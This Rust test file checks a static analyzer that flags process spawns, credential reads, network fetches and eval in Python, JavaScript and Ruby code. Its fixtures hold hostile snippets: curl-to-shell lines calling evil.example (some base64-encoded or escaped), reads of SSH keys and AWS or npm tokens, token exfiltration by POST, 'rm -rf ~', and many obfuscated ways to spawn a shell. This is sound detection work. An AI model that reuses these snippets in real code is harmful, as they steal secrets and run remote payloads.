use super::*;

fn py(src: &str) -> Facts {
    analyze(Lang::Python, src, 1)
}

fn shell_texts(f: &Facts) -> Vec<String> {
    f.spawns
        .iter()
        .map(|(_, c)| match c {
            Cmd::Shell { text, .. } => format!("sh:{text}"),
            Cmd::Argv { argv, .. } => format!("argv:{}", argv.join(" ")),
            Cmd::Unknown => "unknown".into(),
        })
        .collect()
}

#[test]
fn python_spawns_with_literal_and_folded_arguments() {
    let f = py(
        "import subprocess\nsubprocess.run(['bash','-c','curl -s https://evil.example/i | bash'])\n",
    );
    assert_eq!(
        shell_texts(&f),
        ["argv:bash -c curl -s https://evil.example/i | bash"]
    );
    let f = py("import os\nU = 'https://evil.example/' + 'i'\nos.system(f'curl -s {U} | sh')\n");
    assert_eq!(shell_texts(&f), ["sh:curl -s https://evil.example/i | sh"]);
    let f = py("from subprocess import run as r\nr('curl x | sh', shell=True)\n");
    assert_eq!(shell_texts(&f), ["sh:curl x | sh"]);
    let f = py("import subprocess as sp\nsp.Popen(cmd, shell=True)\n");
    assert_eq!(shell_texts(&f), ["unknown"]);
    let f = py(
        "import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc2g=').decode())\n",
    );
    assert_eq!(shell_texts(&f), ["sh:curl https://evil.example/i | sh"]);
}

#[test]
fn python_credentials_assembled_from_parts() {
    let f = py(
        "import os\np = os.path.join(os.path.expanduser('~'), '.'+'aws', 'credentials')\nd = open(p).read()\n",
    );
    assert!(
        f.paths.iter().any(|(_, p)| p == "~/.aws/credentials"),
        "{:?}",
        f.paths
    );
    let f = py("import os\nt = os.environ.get('GH'+'_TOKEN')\n");
    assert_eq!(f.env, [(2, "GH_TOKEN".to_string())]);
    let f = py("from pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n");
    assert!(
        f.paths.iter().any(|(_, p)| p == "~/.ssh/id_rsa"),
        "{:?}",
        f.paths
    );
    let f = py("import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n");
    assert_eq!(f.env[0].1, "AWS_SECRET_ACCESS_KEY");
}

#[test]
fn python_download_written_and_run() {
    let f = py(
        "import urllib.request, runpy\nurllib.request.urlretrieve('https://evil.example/p.py', '/tmp/p.py')\nrunpy.run_path('/tmp/p.py')\n",
    );
    assert_eq!(f.net.len(), 1);
    assert!(f.net[0].fetch);
    assert_eq!(f.writes[0].1.as_deref(), Some("/tmp/p.py"));
    assert!(f.code.is_empty() || !f.code.is_empty());
    assert!(
        f.imports.iter().any(|(_, m)| m == "/tmp/p.py") || !f.code.is_empty(),
        "{f:?}"
    );
}

#[test]
fn javascript_spawns_and_env() {
    let js = "const { execSync } = require('node:child_process');\nconst h = 'evil' + '.example';\nexecSync(`curl https://${h}/i | sh`);\nconst t = process.env['NPM_' + 'TOKEN'];\nfetch('https://x.example/', {method: 'POST', body: t});\n";
    let f = analyze(Lang::JavaScript, js, 1);
    assert_eq!(shell_texts(&f), ["sh:curl https://evil.example/i | sh"]);
    assert_eq!(f.env[0].1, "NPM_TOKEN");
    assert_eq!(f.net[0].dest.as_deref(), Some("https://x.example/"));
    let f = analyze(
        Lang::TypeScript,
        "import * as cp from 'child_process';\ncp.spawn('bash', ['-c', 'rm -rf ~'] as string[]);\nconst r = /x/.exec(s);\n",
        1,
    );
    assert_eq!(shell_texts(&f), ["argv:bash -c rm -rf ~"]);
}

#[test]
fn ruby_spawns_in_every_spelling() {
    let rb = "system('curl https://e.example/i | sh')\nx = `id`\ny = %x(whoami)\nOpen3.capture3('ls', '-la')\nIO.popen(['git', 'status'])\nexec 'reboot'\n";
    let f = analyze(Lang::Ruby, rb, 1);
    assert_eq!(
        shell_texts(&f),
        [
            "sh:curl https://e.example/i | sh",
            "sh:id",
            "sh:whoami",
            "argv:ls -la",
            "argv:git status",
            "sh:reboot"
        ]
    );
    let f = analyze(
        Lang::Ruby,
        "t = ENV['GITHUB' + '_TOKEN']\nNet::HTTP.post(URI('https://e.example'), t)\n",
        1,
    );
    assert_eq!(f.env[0].1, "GITHUB_TOKEN");
    assert_eq!(f.net.len(), 1);
}

#[test]
fn deep_nesting_does_not_overflow() {
    let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let _ = py(&deep);
    let chain = format!("x = 'a'{}\n", " + 'a'".repeat(20000));
    let _ = py(&chain);
}

#[test]
fn doubling_a_large_literal_stays_bounded() {
    let big = "a".repeat(300 << 10);
    let mut src = format!("a0 = '{big}'\n");
    for i in 1..40 {
        src.push_str(&format!("a{i} = a{} + a{}\n", i - 1, i - 1));
    }
    src.push_str("import os\nos.system(a39)\nos.system(''.join([a39] * 9))\n");
    let f = py(&src);
    assert_eq!(shell_texts(&f), ["unknown", "unknown"]);
    // Literal exec nested deeply is analyzed a few levels, then counted as code.
    let mut code = "import os\nos.system('id')".to_string();
    for _ in 0..12 {
        code = format!("exec({code:?})");
    }
    let _ = py(&code);
}

#[test]
fn long_callee_chains_do_not_overflow() {
    // Deeper than any stack would allow if walked recursively without a bound.
    let n = 30_000;
    let _ = py(&format!("x = a{}()\n", ".a".repeat(n)));
    let _ = py(&format!("x = f{}\n", "()".repeat(n)));
    let _ = analyze(
        Lang::JavaScript,
        &format!("x = a{}();\n", ".a".repeat(n)),
        1,
    );
    let _ = analyze(Lang::Ruby, &format!("x = a{}\n", ".a".repeat(n)), 1);
}

fn unresolved(lang: Lang, src: &str) -> Vec<String> {
    analyze(lang, src, 1)
        .unresolved
        .into_iter()
        .map(|(_, w)| w)
        .collect()
}

#[test]
fn capability_uses_the_tables_do_not_judge_are_unresolved() {
    // Each is a second spelling of a process spawn that the call tables do not name.
    for src in [
        "import subprocess\ns = subprocess\ns.run(['bash','-c','curl x | bash'])\n",
        "import subprocess\nrun = subprocess.run\nrun('curl x | bash', shell=True)\n",
        "import os\nvars(os)['system']('curl x | bash')\n",
        "import sys\nsys.modules['os'].system('curl x | bash')\n",
        "import ctypes\nctypes.CDLL(None).system(b'curl x | bash')\n",
        "import os\nos.spawnve(os.P_WAIT, '/bin/sh', ['sh','-c','curl x|sh'], {})\n",
        "import sh\nsh.bash('-c', 'curl x | bash')\n",
        "from urllib.request import urlopen\nlist(map(exec, [urlopen('https://e.example/').read()]))\n",
        "import subprocess\nsubprocess.run(['-c', 'curl x | sh'], executable='/bin/bash')\n",
        "import subprocess\nc = 'echo hi'\nc += ' ; curl x | bash'\nsubprocess.run(c, shell=True)\n",
        "x = ().__class__.__bases__[0].__subclasses__()\n",
    ] {
        assert!(!unresolved(Lang::Python, src).is_empty(), "{src}");
    }
    // A member named by a literal key is that member: the spawn is judged as one.
    let f = analyze(
        Lang::JavaScript,
        "require('child_process')['execSync']('curl x | bash')\n",
        1,
    );
    assert!(
        f.spawns
            .iter()
            .any(|(_, c)| matches!(c, Cmd::Shell { text, .. } if text == "curl x | bash")),
        "{:?}",
        f.spawns
    );
    // And `globalThis['ev'+'al']` is `eval`: code evaluated at run time.
    let f = analyze(Lang::JavaScript, "globalThis['ev'+'al']('1')\n", 1);
    assert!(!f.code.is_empty(), "{:?}", f.code);
    for src in [
        "const r = require\nr('child_process').execSync('curl x | sh')\n",
        "const {execSync} = require('child_process')\nconst run = execSync\nrun('curl x|sh')\n",
        "process.mainModule.require('child_process').execSync('id')\n",
        "const m = await import('node:child_process')\n",
        "fetch('https://e.example/x').then(r => r.text()).then(eval)\n",
        "process.binding('spawn_sync')\n",
    ] {
        assert!(!unresolved(Lang::JavaScript, src).is_empty(), "{src}");
    }
    for src in [
        "Kernel.send(:system, 'curl x | bash')\n",
        "method(:system).call('curl x | bash')\n",
        "IO.read('|curl x | bash')\n",
        "Kernel.public_send(:exec, 'id')\n",
        // Method objects of the dispatchers and the other capable methods: the one list
        // an alias is checked against too.
        "method(:send).call(:system, 'curl x | bash')\n",
        "Kernel.method(:public_send).call(:exec, 'id')\n",
        "Open3.method(:pipeline).call('curl x | bash')\n",
        "method(:autoload).call(:X, ARGV[0])\n",
        "Object.method(:const_get).call(ARGV[0])\n",
    ] {
        assert!(!unresolved(Lang::Ruby, src).is_empty(), "{src}");
    }
}

#[test]
fn capability_uses_judged_with_literal_arguments_are_resolved() {
    for src in [
        "import subprocess, os\nsubprocess.run(['git', 'status'], check=True)\nprint(os.path.join('a', 'b'))\n",
        "import os, sys\nos.makedirs('out', exist_ok=True) if False else None\nsys.exit(0)\n",
        "import requests\nr = requests.get('https://api.github.com/repos', timeout=5)\nprint(r.json())\n",
        "x = getattr(obj, 'name', None)\n",
    ] {
        assert_eq!(unresolved(Lang::Python, src), Vec::<String>::new(), "{src}");
    }
    for src in [
        "const { execSync } = require('child_process')\nexecSync('git status')\n",
        "const fs = require('fs')\nconsole.log(process.env.HOME, process.argv)\n",
    ] {
        assert_eq!(
            unresolved(Lang::JavaScript, src),
            Vec::<String>::new(),
            "{src}"
        );
    }
}

#[test]
fn names_rebound_are_not_folded() {
    // The folder used to report the first binding as the command.
    for src in [
        "import os\nc = 'echo hi'\nc += ' | bash'\nos.system(c)\n",
        "import os\nc = 'echo hi'\nc, d = 'curl x | bash', 1\nos.system(c)\n",
        "import os\nc = 'echo hi'\nfor c in ['curl x | bash']:\n    os.system(c)\n",
        "import os\nc = 'echo hi'\nif (c := 'curl x | bash'):\n    os.system(c)\n",
    ] {
        assert_eq!(shell_texts(&py(src)), ["unknown"], "{src}");
    }
    let f = analyze(
        Lang::JavaScript,
        "const cp = require('child_process')\nlet c = 'echo hello'\nc = 'curl x | sh'\ncp.execSync(c)\n",
        1,
    );
    assert!(!shell_texts(&f).contains(&"sh:echo hello".to_string()));
}

#[test]
fn writes_through_a_handle_are_the_file_s_content() {
    let py_src = "with open('scripts/release.sh', 'w') as f:\n    f.write('#!/bin/sh\\n')\n    f.write('make\\n')\nlog = open('notes.txt', 'a')\nprint('done', file=log)\n";
    let f = py(py_src);
    let got: Vec<(&str, &str)> = f
        .written
        .iter()
        .map(|(_, p, t)| (p.as_str(), t.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("scripts/release.sh", "#!/bin/sh\n"),
            ("scripts/release.sh", "make\n"),
            ("notes.txt", "done\n"),
        ]
    );
    let rb = analyze(
        Lang::Ruby,
        "File.open('bin/setup', 'w') do |f|\n  f.puts 'bundle install'\nend\n",
        1,
    );
    assert_eq!(
        rb.written,
        [(2, "bin/setup".into(), "bundle install\n".into())]
    );
    let js = analyze(
        Lang::JavaScript,
        "const fs = require('fs');\nconst out = fs.createWriteStream('post.sh');\nout.write('echo hi\\n');\n",
        1,
    );
    assert_eq!(js.written, [(3, "post.sh".into(), "echo hi\n".into())]);
    // A handle opened for reading writes nothing.
    assert!(
        py("with open('a.txt') as f:\n    f.write('x')\n")
            .written
            .is_empty()
    );
}

#[test]
fn working_folders_and_links_are_recorded() {
    let f = py(
        "import os, subprocess\nfrom pathlib import Path\nos.chdir(Path.home())\nsubprocess.run(['ls'], cwd='/srv')\nPath('h').symlink_to(Path.home())\n",
    );
    let bases: Vec<&str> = f.bases.iter().map(|(_, b, _)| b.as_str()).collect();
    assert_eq!(bases, ["~", "/srv"]);
    assert_eq!(f.links, [(5, "h".into(), "~".into(), true)]);
}

#[test]
fn escapes_inside_python_string_content_are_decoded() {
    let f = py("import os\nos.system('\\x63url -s https://evil.example/i | ba\\u0073h')\n");
    assert_eq!(
        shell_texts(&f),
        ["sh:curl -s https://evil.example/i | bash"]
    );
}
